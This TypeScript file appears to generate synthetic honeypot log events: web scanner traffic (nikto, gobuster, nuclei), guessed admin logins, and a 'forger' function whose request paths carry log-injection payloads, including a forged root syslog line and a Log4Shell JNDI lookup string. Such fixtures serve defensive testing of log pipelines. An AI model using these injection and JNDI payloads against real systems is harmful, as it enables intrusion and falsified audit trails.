/** Those who come over HTTP: three scanners, one of them on IPv6, and one who tries to forge. */
import type { Decky } from '../deckies.ts'
import { type LogBook, MINUTE, type Params, START, secret } from '../log_book.ts'
import { type Random, random } from '../random.ts'
import { passwords, userAgents, webPaths } from '../words.ts'

interface Scanner {
  readonly from: string
  readonly decky: Decky
  readonly service: 'http' | 'https'
  readonly agent: keyof typeof userAgents
  readonly requests: number
  readonly minute: number
  readonly ms: number
}
const scanners: readonly Scanner[] = [
  {
    from: '198.51.100.33',
    decky: 'shop-03',
    service: 'http',
    agent: 'nikto',
    requests: 800,
    minute: 50,
    ms: 1200,
  },
  {
    from: '203.0.113.14',
    decky: 'web-01',
    service: 'http',
    agent: 'gobuster',
    requests: 900,
    minute: 155,
    ms: 350,
  },
  {
    from: '2001:db8:5ca1::80',
    decky: 'shop-03',
    service: 'https',
    agent: 'nuclei',
    requests: 420,
    minute: 240,
    ms: 2500,
  },
  {
    from: '203.0.113.15',
    decky: 'shop-03',
    service: 'http',
    agent: 'python',
    requests: 90,
    minute: 10,
    ms: 240_000,
  },
]

/** Body and credential of a guessed login form. */
function form(dice: Random): Params {
  const password = `${dice.pick(passwords)}?`
  return {
    body: `user=admin&pass=${password}`,
    principal: 'admin',
    secret_kind: 'plaintext',
    ...secret(password),
  }
}

export function webScanners(log: LogBook): void {
  for (const { from, decky, service, agent, requests, minute, ms } of scanners) {
    const dice = random(`web ${from}`)
    const bare = from.includes(':') ? `[${from}]` : from
    let at = START + minute * MINUTE
    for (let count = 0; count < requests; count += 1) {
      const path =
        count % 3 === 0
          ? dice.pick(webPaths)
          : `/${dice.pick(['old', 'new', 'api', 'app'])}/${dice.hex(6)}`
      const headers = JSON.stringify({
        Host: 'shop.example',
        'User-Agent': userAgents[agent],
        Accept: '*/*',
      })
      const post = path.includes('login')
      log.event(at, decky, service, 'request', {
        method: post ? 'POST' : 'GET',
        path,
        remote_addr: from,
        headers,
        ...(post ? form(dice) : { body: '' }),
      })
      if (count % 25 === 0) {
        log.event(at + 700, decky, service, 'http_request_fingerprint', {
          remote_addr: `${bare}:${dice.between(1025, 65535)}`,
          proto: service === 'https' ? 'h2' : 'h1',
          method: 'GET',
          path,
          ja4h: `GE${service === 'https' ? '20' : '11'}nn0000_03_${dice.hex(12)}_000000000000`,
          headers_ordered: '["host", "user-agent", "accept"]',
          cookie: '',
          accept_language: '',
        })
      }
      at += dice.gap(ms)
    }
  }
}

/** Paths, bodies and names that look like the end of a field and the begin of another line. */
export function forger(log: LogBook): void {
  const from = '203.0.113.66'
  const fake =
    '<134>1 2026-03-01T09:00:00Z payroll-db bash - - - CMD uid=0 src=192.0.2.99 pwd=/ cmd=id'
  const paths = [
    '/x] src=192.0.2.99 ',
    '/"] [relay@55555 src_ip="192.0.2.99"] ',
    '/a\\" src_ip=\\"192.0.2.99',
    `/%0a${fake}`,
    '/${jndi:ldap://203.0.113.250/a}',
  ]
  let at = START + 200 * MINUTE
  for (const [index, path] of paths.entries()) {
    log.event(at, 'shop-03', 'http', 'request', {
      method: index % 2 ? 'POST' : 'GET',
      path,
      remote_addr: from,
      headers: JSON.stringify({ Host: 'shop.example', 'User-Agent': `] ${userAgents.curl} "` }),
      body: index % 2 ? `x\n${fake}\n` : '',
    })
    at += 20_000_000
  }
}
